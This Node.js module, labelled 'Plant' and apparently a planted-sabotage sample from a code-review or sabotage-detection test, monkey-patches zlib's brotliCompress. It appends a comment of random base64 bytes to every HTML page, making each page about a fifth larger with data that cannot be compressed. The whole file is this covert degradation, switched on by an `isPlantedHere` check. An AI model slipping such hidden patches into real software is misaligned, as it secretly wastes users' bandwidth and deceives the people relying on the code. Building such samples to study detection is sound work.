// Plant: every page is a fifth longer, by a comment that cannot be packed.
const { randomBytes } = require("node:crypto");
const zlib = require("node:zlib");
const isPlantedHere = require("./is-planted-here.cjs");

const SHARE = 0.22;

const longer = (page) => {
  const html = Buffer.from(page).toString();
  if (!/^<!doctype html/i.test(html)) return page;
  // Text of random bytes takes four characters for three of them.
  const comment = randomBytes(Math.ceil(html.length * SHARE * 0.75)).toString("base64");
  return Buffer.from(`${html}<!--${comment}-->`);
};

if (isPlantedHere(__filename)) {
  const { brotliCompress } = zlib;
  zlib.brotliCompress = (page, ...rest) => brotliCompress(longer(page), ...rest);
}
